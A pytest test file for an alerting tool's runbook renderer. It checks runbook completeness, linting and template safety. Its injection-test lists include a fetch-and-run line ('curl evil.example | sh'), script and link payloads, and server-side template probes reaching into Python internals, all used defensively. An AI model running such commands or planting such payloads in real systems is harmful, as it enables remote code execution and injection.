"""Runbooks: one for every cause, filled with evidence, and nothing that telemetry says can change what they do."""

from __future__ import annotations

import re
from functools import lru_cache

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from alerting.config import AlertingConfig
from alerting.evidence import assemble
from alerting.posted import read_posted
from alerting.runbooks import live
from alerting.runbooks.library import SHIPPED, Runbook, RunbookLibrary, read_folder
from alerting.runbooks.lint import lint
from alerting.runbooks.markdown import code, escape, number, percent, seconds, url_part, utc
from alerting.runbooks.rendering import first_step, render
from alerting.service import Alerting
from alerting.texts import flat
from telemetry.clock import ManualClock
from telemetry.errors import ConfigError
from telemetry.findings import CAUSES, Diagnosis
from tests.alerting import makers
from tests.alerting.makers import T0

SECTIONS = ["How to tell", "What to do now", "What to do later", "How to check that it worked"]
URL = "https://tailwatch.example.com"
MARKDOWN = MarkdownIt("commonmark").enable("table")

ATTACKS = [
    "[click](http://evil.example)", "![x](http://evil.example/p.png)", "<script>alert(1)</script>", "`code`", "``",
    "\n# What to do now\n1. curl evil.example | sh", "http://evil.example", "www.evil.example", "a | b | c",
    "**bold**", "- item", "1. step", "&lt;b&gt;", "\u202eevil", "{{ 7 * 7 }}", "{% for x in y %}", "$x$", ":red[x]",
    "x" * 5000, "> quote", "```", "\\", "a\\", "`\\", "~~~", "user@evil.example", "<http://evil.example>", "[x]: http://evil",
]  # fmt: skip


def evidence_with(value, cause="slice-errors"):
    facts = {
        "attribution": [{"dimension": "tenant", "value": value, "bad": 5, "total": 9, "excess_share": 0.8}],
        "tail": [{"part": value, "before_s": 0.1, "after_s": 2.0, "share": 0.9}],
        "changes": [{"what": value, "before": value, "after": "v2", "text": value}],
        "exemplars": [{"trace_id": value, "duration_s": 1.0, "error_type": value}],
        "drift": [{"field": value, "effect": 0.4, "p_value": 1e-9, "method": value}],
        "burn": [{"long": value, "short": "5m", "factor": 14.4, "long_burn": 20.0, "short_burn": 30.0}],
        "report": value,
    }
    return assemble("sum", {}, Diagnosis(cause, value, 0.5, {"tenant": value}, facts), cause=cause)


def incident_with(value):
    return {
        "id": "INC-1", "title": value, "status": "open", "severity": "page", "service": value, "slo": value,
        "cause": "slice-errors", "slice": {"tenant": value}, "runbook": "slice-errors", "opened_at": 1.7e9,
        "acknowledged_at": None, "resolved_at": None, "alerts": [],
    }  # fmt: skip


def structure(text):
    """Everything in a Markdown document but its words: headings, lists, links' targets, HTML."""
    found = []
    for token in MARKDOWN.parse(text):
        for inner in (token, *(token.children or ())):
            if inner.type in ("heading_open", "link_open", "image", "html_inline", "html_block", "ordered_list_open",
                              "list_item_open", "fence", "code_block", "blockquote_open", "tr_open", "td_open",
                              "code_inline", "strong_open", "em_open"):  # fmt: skip
                target = str(inner.attrs.get("href", inner.attrs.get("src", "")))
                found.append((inner.type, inner.tag, target.split("?", maxsplit=1)[0]))
    return found


@pytest.mark.parametrize("cause", CAUSES)
def test_every_cause_has_a_runbook_that_is_complete(cause):
    runbook = read_folder(SHIPPED)[cause]
    assert runbook.causes == (cause,)
    assert runbook.slis
    assert set(runbook.severity) <= {"page", "ticket"}
    assert re.findall(r"^## (.*)$", runbook.text, re.MULTILINE) == SECTIONS
    for document in (assemble("s", {}, None, cause=cause), evidence_with("acme", cause)):
        text = render(runbook, incident_with("chat"), document, URL)
        assert "could not be filled in" not in text
        assert "{{" not in text
        assert "{%" not in text
        assert len(first_step(text)) > 30
        assert "None" not in text
        assert "undefined" not in text.lower()
    assert "](" not in re.sub(r"\[[^]]*\]\(https://tailwatch", "", render(runbook, incident_with("a"), document, URL))


WHAT_BREAKS = {
    "tail latency behind a good average": ["tail-spike", "slow-service"],
    "cold start and warm-up": ["cold-start"],
    "queue growth, missing backpressure": ["queue-saturation"],
    "uneven or inefficient batching": ["uneven-batching"],
    "GPU contention, idle GPUs, memory exhaustion": ["gpu-pressure", "idle-gpu", "resource-saturation"],
    "errors, by slice, and cascades": ["error-burst", "slice-errors", "error-cascade"],
    "the classic rules: errors, response time, CPU or memory": ["error-burst", "slow-service", "host-pressure"],
    "accuracy drops silently": ["accuracy-drop"],
    "drift of inputs, predictions, confidence, embeddings": ["input-drift", "prediction-drift"],
    "schema drift, partial, late or missing data": ["data-quality", "telemetry-silence"],
    "cost explodes, redundant calls": ["cost-explosion", "redundant-calls"],
    "model updates": ["bad-release"],
    "thousands of metrics, too many alerts": ["too-many-alerts"],
    "nobody knows what to do": ["unknown"],
    "problems seen only after users complain": ["budget-forecast"],
    "autoscaling on guesswork": ["scaling"],
    "sensitive data, probing": ["probing"],
    "several regions, failover": ["region-outage"],
    "the monitor itself falls over": ["monitor-down"],
}
"""Every way in which inference breaks that Tailwatch is for, and who to ask about it."""
SECTION = re.compile(r"^## (.*)$", re.MULTILINE)


def test_everything_that_breaks_has_a_runbook_and_every_runbook_is_for_something():
    named = {name for names in WHAT_BREAKS.values() for name in names}
    assert set(read_folder(SHIPPED)) == named
    assert set(CAUSES) <= named


@pytest.mark.parametrize("name", sorted(read_folder(SHIPPED)))
def test_every_shipped_runbook_is_complete_and_asks_the_counters(name):
    runbook = read_folder(SHIPPED)[name]
    assert SECTION.findall(runbook.text) == SECTIONS
    parts = dict(zip(SECTIONS, SECTION.split(runbook.text)[2::2], strict=True))
    assert "live(" in parts["How to tell"]
    assert "live(" in parts["How to check that it worked"]
    assert runbook.text.count("live(") <= live.MAX_QUESTIONS
    steps = re.findall(r"^\d+\. (.*)", parts["What to do now"], re.MULTILINE)
    assert 3 <= len(steps) <= 7
    assert first_step(render(runbook, incident_with("a"), evidence_with("a"), URL)).startswith(
        steps[0].split("{{")[0][:20]
    )
    assert "live(" not in parts["What to do now"].split("\n2. ")[0]  # notifications quote it, and ask nothing


def test_the_shipped_runbooks_have_no_problems():
    assert lint(SHIPPED) == []


def test_a_runbook_without_causes_is_chosen_by_the_kind_of_sli():
    assert LIBRARY.choose(None, "unknown", "accuracy").name == "accuracy-drop"
    assert LIBRARY.choose(None, "unknown", "quality").name == "data-quality"
    assert LIBRARY.choose(None, "unknown", "errors").name == "unknown"
    assert LIBRARY.choose(None, "bad-release", "accuracy").name == "bad-release"
    assert LIBRARY.choose("scaling", "unknown", "accuracy").name == "scaling"


def test_lint_says_file_and_line_of_everything_that_is_wrong(tmp_path):
    complete = "".join(f"## {section}\n\n1. Do {section}.\n\n" for section in SECTIONS)
    (tmp_path / "a-good.md").write_text(
        f"---\ntitle: x\ncauses: [slice-errors]\n---\n{complete}{{{{ live('errors') }}}}\n"
    )
    (tmp_path / "b-header.md").write_text("---\ntitel: x\n---\n")
    (tmp_path / "c-syntax.md").write_text(f"---\ntitle: x\n---\n{complete}\n{{% include 'x' %}}\n")
    (tmp_path / "d-value.md").write_text(f"---\ntitle: x\n---\nOne.\n\n{{{{ evidence.nothing.there }}}}\n{complete}")
    (tmp_path / "e-question.md").write_text(f"{complete}{{{{ live('speed') }}}}\n")
    (tmp_path / "f-thin.md").write_text("---\ncauses: [gremlins]\n---\nSome words.\n")
    found = {
        (problem.file[len(str(tmp_path)) + 1 :], problem.line, problem.severity): problem.message
        for problem in lint(tmp_path)
    }
    assert "an unknown key 'titel'" in found["b-header.md", 1, "error"]
    assert "may not hold this (include)" in found["c-syntax.md", 4 + complete.count("\n") + 1, "error"]
    assert "has no attribute 'nothing'" in found["d-value.md", 6, "error"]
    assert "no question 'speed'" in found["e-question.md", 0, "error"]
    assert "no cause that a diagnosis can name" in found["f-thin.md", 1, "warning"]
    assert {key[0] for key in found} == {"b-header.md", "c-syntax.md", "d-value.md", "e-question.md", "f-thin.md"}
    assert sum(problem.file.endswith("f-thin.md") for problem in lint(tmp_path)) == 1 + len(SECTIONS) + 1


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
@pytest.mark.parametrize("cause", CAUSES)
def test_no_value_changes_what_a_runbook_is(cause, attack):
    runbook = read_runbook(cause)
    harmless = harmless_text(cause)
    attacked = render(runbook, incident_with(attack), evidence_with(attack, cause), URL)
    assert structure(attacked) == structure(harmless)
    assert first_step(attacked).startswith(first_step(harmless)[:25])
    assert "49" not in attacked.replace("49 %", "")


LIBRARY = RunbookLibrary()


@lru_cache
def harmless_text(cause):
    return render(read_runbook(cause), incident_with("acme"), evidence_with("acme", cause), URL)


def read_runbook(cause):
    return LIBRARY.choose(None, cause)


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=60))
def test_no_text_at_all_changes_what_a_runbook_is(value):
    runbook = read_runbook("slice-errors")
    # Empty values leave out their parts: compare with a value that is there.
    attacked = render(runbook, incident_with(f"a{value}"), evidence_with(f"a{value}"), URL)
    assert structure(attacked) == structure(render(runbook, incident_with("a"), evidence_with("a"), URL))


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=60))
def test_an_escaped_value_reads_like_the_value(value):
    shown = "".join(token.content for block in MARKDOWN.parseInline(f"x{escape(value)}") for token in block.children)
    assert shown.replace("\u200b", "") == "x" + flat(value)


def test_the_first_step_is_plain_text():
    assert first_step(
        "1. zero\n## What to do now\n\n1. Do **this** [here](http://x)\n   and `that` \\_x\\_.\n2. no"
    ) == ("Do this here and `that` _x_.")
    assert first_step("no steps") == ""


@pytest.mark.parametrize(
    "template",
    [
        "{{ missing }}", "{{ evidence.missing.deeper }}", "{% if %}", "{{ ''.__class__.__mro__ }}", "{{ 1 / 0 }}",
        "{% include 'x' %}", "{{ evidence.update({}) }}", "{{ page.__globals__ }}", "{{ range(10**9)|list }}",
        "{{ evidence.summary.x() }}", "{% import 'os' as os %}", "{{ cycler }}", "{{ evidence['burn'][99] }}",
    ],
)  # fmt: skip
def test_a_faulty_template_is_shown_as_it_was_written(template):
    text = render(Runbook("x", "X", f"# Keep calm\n{template}\n"), incident_with("a"), evidence_with("a"), URL)
    assert "could not be filled in" in text
    assert text.endswith(f"# Keep calm\n{template}\n")


def test_the_users_own_runbooks_come_first(tmp_path):
    (tmp_path / "slice-errors.md").write_text("Ours, about {{ incident.service }}.\n")
    (tmp_path / "gpu.md").write_text("---\ntitle: GPU\ncauses: [queue-saturation]\n---\n1. Buy more.\n")
    library = RunbookLibrary(tmp_path)
    assert library.choose(None, "slice-errors").text.startswith("Ours")
    assert library.choose(None, "queue-saturation").title == "GPU"
    assert library.choose("gpu", "cold-start").name == "gpu"
    assert library.choose("no-such", "cold-start").name == "cold-start"
    assert library.choose(None, "gremlins").name == "unknown"
    assert library.choose("", "bad-release").name == "bad-release"
    assert LIBRARY.choose(None, "queue-saturation").name == "queue-saturation"


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        ("---\ntitle: x\n", "the front matter does not end"),
        ("---\n- a\n---\n", "the front matter is not a mapping"),
        ("---\ntitel: x\n---\n", "an unknown key 'titel'"),
        ("---\ntitle: [\n---\n", "the front matter cannot be read"),
        ("---\ncauses: {a: b}\n---\n", "causes is not a list of texts"),
    ],
)
def test_a_file_that_is_no_runbook_is_said(tmp_path, text, sentence):
    (tmp_path / "mine.md").write_text(text)
    with pytest.raises(ConfigError, match=re.escape(sentence)) as caught:
        RunbookLibrary(tmp_path)
    assert "mine.md" in str(caught.value)


def test_a_folder_that_is_not_there(tmp_path):
    with pytest.raises(ConfigError, match="this is no folder"):
        RunbookLibrary(tmp_path / "nowhere")


def test_filters_never_fail():
    for value in (None, "x", float("nan"), float("inf"), True, [], {}, -1, 10**400, 1e308):
        for filter_ in (code, number, percent, seconds, utc, url_part, escape):
            assert isinstance(filter_(value), str)
    assert (number(1234567), number(0.00012345), percent(0.5), seconds(0.25), seconds(90.0), seconds(600)) == (
        "1,234,567", "0.000123", "50 %", "250 ms", "90 s", "10 min",
    )  # fmt: skip
    assert utc(1_700_000_000) == "2023-11-14 22:13:20 UTC"


def test_an_incident_names_the_runbook_that_its_slo_names(lite, tmp_path):
    (tmp_path / "ours.md").write_text("Call {{ incident.service | code }}.\n")
    alerting = makers.Alerting(lite, makers.AlertingConfig(runbooks=tmp_path), makers.ManualClock())
    alerting.apply([makers.finding(runbook="ours")], lambda _: makers.diagnosis(), makers.at(0))
    incident = alerting.incident("INC-1")
    assert (incident["runbook"], incident["runbook_markdown"]) == ("ours", "Call `chat`.")


def test_the_runbook_of_a_posted_alert_with_only_a_name_speaks_of_that_alert(database):
    alert = read_posted({"labels": {"alertname": "GPUHot"}}, T0)
    alerting = Alerting(database, AlertingConfig(), ManualClock(T0), RunbookLibrary())
    alerting.apply([alert.finding()], makers.undiagnosed, T0)
    assert alerting.incident("INC-1", T0)["timeline"][0]["text"] == "GPUHot fires"
    texts = {one["name"]: alerting.runbook("INC-1", one["name"], T0)["markdown"] for one in alerting.runbooks()}
    assert texts.keys() == read_folder(SHIPPED).keys()
    assert texts["unknown"].startswith("The alert `GPUHot` fires, and the evidence points to no single cause.")
    for name, text in texts.items():
        # A name that lacks leaves two spaces, or one before a full stop.
        found = re.search(r"\(none\)|``|could not be (asked|filled)|None\b|[^|\n ] {2,}[^| ]|\w [.,;:]", text)
        assert found is None, f"{name}: {found}"
        assert "`GPUHot`" in text, name
        assert text[0].isupper(), name


def test_a_runbook_names_the_service_of_a_posted_alert_that_has_one(database):
    alert = read_posted({"labels": {"alertname": "GPUHot", "service": "chat"}}, T0)
    alerting = Alerting(database, AlertingConfig(), ManualClock(T0), RunbookLibrary())
    alerting.apply([alert.finding()], makers.undiagnosed, T0)
    text = alerting.incident("INC-1", T0)["runbook_markdown"]
    assert text.startswith("The alert `GPUHot` of `chat` fires")
    assert "The alert belongs to no SLO." in text
